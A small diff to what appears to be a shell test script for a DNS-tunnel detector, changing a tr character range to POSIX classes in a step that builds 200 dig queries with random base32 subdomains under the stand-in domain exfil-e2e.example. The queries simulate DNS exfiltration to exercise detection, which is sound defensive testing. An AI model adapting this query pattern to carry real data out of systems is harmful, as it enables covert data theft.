@@ -330,7 +330,7 @@ echo "$out"
 
 # DNS tunnel: 200 queries, each a new random 40-character base32 label
 # under one registered domain (dnstun: >= 50 distinct high-entropy names).
-head -c 5000 /dev/urandom | base32 -w 40 | tr 'A-Z' 'a-z' |
+head -c 5000 /dev/urandom | base32 -w 40 | tr '[:upper:]' '[:lower:]' |
     while read -r l; do
 	echo "@$SERVER +tries=1 +timeout=1 $l.t.exfil-e2e.example A"
     done > "$T/dig.batch"
